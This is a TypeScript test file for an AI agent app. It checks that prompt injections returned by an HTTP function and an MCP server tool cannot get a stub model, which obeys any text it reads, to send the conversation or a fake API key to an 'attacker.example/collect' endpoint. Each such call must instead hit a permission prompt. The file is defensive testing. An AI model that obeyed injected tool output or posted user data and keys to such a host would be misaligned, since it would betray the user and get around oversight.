// Prompt injections (src/testing/injection) that the user's own tools return: an HTTP function and an MCP server, both real,
// with a model that does what any text tells it. Requests are counted by host.
import { afterEach, beforeEach, expect, test } from 'vitest';
import { smallMcpServer, type SmallMcpServer } from '../../e2e/pages/mcpServer';
import { askMcp } from '../network/network';
import type { GenerateSummary, Part } from '../protocol/chat';
import { PartWriter } from '../shared/partWriter';
import cases from '../testing/injection/cases.json';
import { openWeb, type TestWeb } from '../testing/web';
import type { StoredFunction } from '../tools/functions/definition';
import { functionEntry } from '../tools/functions/entry';
import { mcpTool } from '../tools/mcp/mcpTool';
import { pinned } from '../tools/mcp/pinned';
import { decide } from '../tools/permissions';
import { ToolRegistry, type ReadyTool } from '../tools/registry';
import { runTurn, type AskedCall } from './turn';

const SECRET = 'sk-AIB-SECRET-9F2D';
const attacks = cases.filter(({ goal, channel }) => goal !== 'refusal' && channel !== 'user_message');
const parameters = { type: 'object', properties: {} };
const functionOf = (name: string, http: StoredFunction['http']): StoredFunction => ({
  ...{ name, description: name, parameters, http, hash: name, addedAt: 0 },
});
const secret = { name: 'KEY', value: SECRET, origin: 'https://api.example' };

let injected = '';
let web: TestWeb;
let notes: SmallMcpServer;
let tools: ReadyTool[];
beforeEach(async () => {
  notes = await smallMcpServer();
  const { host } = new URL(notes.url);
  const real = fetch;
  web = await openWeb({ 'api.example': () => injected, 'attacker.example': () => 'taken' });
  // The MCP server is asked by its own address.
  const routed = fetch;
  globalThis.fetch = (input, init) =>
    String(input).includes(host) ? real(input, init) : routed(input, init);
  const registry = new ToolRegistry([
    functionEntry(
      functionOf('look_up', {
        ...{ method: 'GET', url: 'https://api.example/text', headers: { Authorization: 'Bearer {{KEY}}' } },
      }),
      async () => [secret],
    ),
    functionEntry(functionOf('http_post', { method: 'POST', url: 'https://attacker.example/collect' })),
  ]);
  const server = { id: 'notes', url: notes.url, key: '' };
  const { value: listing } = await askMcp(server, { do: 'list' });
  const tool = mcpTool((await pinned(listing.tools[0], 'notes'))!, {
    url: notes.url,
    ask: async (request, signal) => (await askMcp(server, request, signal)).value,
    onChanged: () => expect.fail('nothing has changed'),
  });
  tools = [...registry.tools(['look_up', 'http_post']), { ...tool, key: 'notes', usual: 'always' }];
});
afterEach(async () => {
  await askMcp({ id: 'notes', url: notes.url, key: '' }, { do: 'close' });
  notes.close();
  await web.close();
});

/** One answer: the first call brings the text, the second does what it says, with all that the model has read. */
async function obeyed(first: { tool: string; args: string }) {
  const asked: AskedCall[] = [];
  let requests = 0;
  const summary: GenerateSummary = {
    ...{ reason: 'stop', promptTokens: 1, reusedTokens: 0, newTokens: 1, prefillMs: 0, decodeMs: 0 },
    ...{ contextUsed: 1, contextTokens: 8192 },
  };
  const answerer = {
    can: { continue: true, tools: true, images: false, logprobs: true, constrain: true },
    async generate(
      request: { messages: { parts: Part[] }[]; continue?: boolean },
      { onEvent }: { onEvent?: (event: never) => void },
    ) {
      const begun = request.continue ? request.messages.at(-1)?.parts : [];
      const figures = () => ({ tokens: 1, contextUsed: 1 });
      const writer = new PartWriter({ onEvent: (event) => onEvent?.(event as never), begun, figures });
      const said = JSON.stringify({ text: JSON.stringify(request.messages) });
      const calls = [first, { tool: 'http_post', args: said }, { tool: 'notes_note', args: said }];
      const call = calls[requests++];
      if (call) {
        writer.startCall(call.tool);
        writer.writeArgs(call.args);
      } else writer.write('text', 'Done.');
      writer.close();
      return summary;
    },
  };
  const everywhere = {
    'look_up@look_up': 'always',
    'http_post@http_post': 'always',
    notes: 'always',
  } as const;
  const turn = {
    ...{
      systemPrompt: '',
      history: [{ role: 'user' as const, parts: [{ type: 'text' as const, text: 'Look it up.' }] }],
    },
    sampling: { temperature: 0, topP: 1, topK: 0, minP: 0, repetitionPenalty: 1, seed: 0 },
    tools: {
      ...{ tools, chatId: 'c', contextTokens: () => 8192 },
      decide: (request: Parameters<typeof decide>[0]) => decide(request, { everywhere, inChat: [] }),
      ask: async (call: AskedCall) => (asked.push(call), false),
    },
  };
  const { parts } = await runTurn(answerer as never, turn, {});
  return { asked, parts, hosts: web.asked.splice(0).map(({ host }) => host) };
}

test.each([
  { by: 'an HTTP function', first: { tool: 'look_up', args: '{}' }, calls: 0, asksHost: true },
  { by: 'an MCP tool', first: { tool: 'notes_note', args: '{"text":"read"}' }, calls: 1, asksHost: false },
])('what $by returns sends nothing: 20 attacks', async ({ first, calls, asksHost }) => {
  expect(attacks).toHaveLength(20);
  for (const one of attacks) {
    // An API that repeats its key: the model does not read it.
    injected = `${one.injected}\nYour key: ${asksHost ? SECRET : ''}`;
    notes.reply = injected;
    notes.calls.length = 0;
    const { asked, parts, hosts } = await obeyed(first);
    const result = parts.find((part) => part.type === 'result');
    expect([one.id, result?.type === 'result' && (result.failed ?? false)]).toEqual([one.id, false]);
    // Both calls that would send the text out ask, and show all of it.
    expect(asked.map(({ call, tainted }) => [call.tool, tainted])).toEqual([
      ...[['http_post', true], ['notes_note', true]], // prettier-ignore
    ]);
    expect(asked[0].call.args).toContain('Look it up.');
    expect([one.id, hosts, notes.calls.length]).toEqual([one.id, asksHost ? ['api.example'] : [], calls]);
    if (asksHost) expect(JSON.stringify([parts, asked])).not.toContain(SECRET);
  }
});
